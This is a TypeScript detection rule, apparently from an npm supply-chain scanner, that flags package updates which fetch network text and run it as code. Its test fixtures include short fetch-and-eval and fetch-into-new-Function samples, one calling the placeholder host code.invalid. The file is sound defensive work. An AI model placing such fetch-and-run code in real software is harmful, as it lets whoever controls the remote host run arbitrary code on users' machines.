/**
 * The network's answer is run as code, or as the name of a module or a command. What runs is then decided at run time by
 * whoever holds the host: it can be harmless while it is looked at, and something else a day later.
 */
import type { Behavior } from '../../src/model/behavior.ts';
import type { Rule } from '../../src/rule.ts';
import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';

export const remoteCodeExecuted: Rule = defineRule({
  id: 'remote-code-executed',
  family: 'code',
  title: 'Fetched text is run as code',
  rationale: 'Whoever holds the host decides what runs on your machine, and can change it after you have looked.',
  remedy: 'Stay on the old version. Code belongs into the package, where its integrity is known.',
  level: 'block',
  incidents: [
    {
      what: 'eslint-scope 3.7.2: a script fetched from a paste site and given to eval',
      when: '2018-07-12',
      url: 'https://eslint.org/blog/2018/07/postmortem-for-malicious-package-publishes/',
    },
  ],
  appliesToAdditions: true,
  needs: ['behaviors'],
  kinds: {
    'when-called': { level: 'review', about: 'It happens only when a user of the package calls the function.' },
  },
  flags: [
    {
      title: 'an answer gathered in pieces and given to eval',
      before: { 'index.js': '' },
      after: {
        'index.js': `require('https').get('https://code.invalid/x', (answer) => {
  let text = '';
  answer.on('data', (piece) => { text += piece; });
  answer.on('end', () => eval(text));
});
`,
      },
      expect: [
        {
          message: 'eval runs what the network answered',
          at: { in: 'tarball', path: 'index.js', line: 4 },
          via: ['main', 'index.js', '(anonymous function)', '(anonymous function)'],
        },
      ],
    },
    {
      title: 'an awaited answer that becomes a function when called',
      before: { 'index.mjs': '', 'package.json': { main: 'index.mjs' } },
      after: {
        'package.json': { main: 'index.mjs' },
        'index.mjs': `export async function start(url) {\n  const answer = await fetch(url);\n  new Function(await answer.text())();\n}\n`,
      },
      expect: [
        {
          kind: 'when-called',
          message: 'Function runs what the network answered',
          at: { in: 'tarball', path: 'index.mjs', line: 3 },
          via: ['main', 'index.mjs', 'start()'],
        },
      ],
    },
  ],
  passes: [
    {
      title: 'an answer that is parsed or printed, and code that does not come from it',
      before: { 'index.js': '' },
      after: {
        'index.js': `
exports.ask = async (url) => JSON.parse(await (await fetch(url)).text());
exports.compile = (source) => new Function('data', source);
`,
      },
    },
  ],
  check({ behaviors }) {
    return behaviors.added.filter(runsAnswer).map((behavior) => {
      const told = behavior.detail === undefined ? '' : `: ${shorten(behavior.detail, 120)}`;
      const message = `${behavior.api} runs what the network answered${told}`;
      return evidenceOf(behavior, message, behavior.tier === 'call' ? 'when-called' : undefined);
    });
  },
});

function runsAnswer({ kind, origins, tier }: Behavior): boolean {
  if (tier === 'unreached' || !origins.includes('fetched')) return false;
  return kind === 'dynamic-code' || kind === 'computed-import';
}
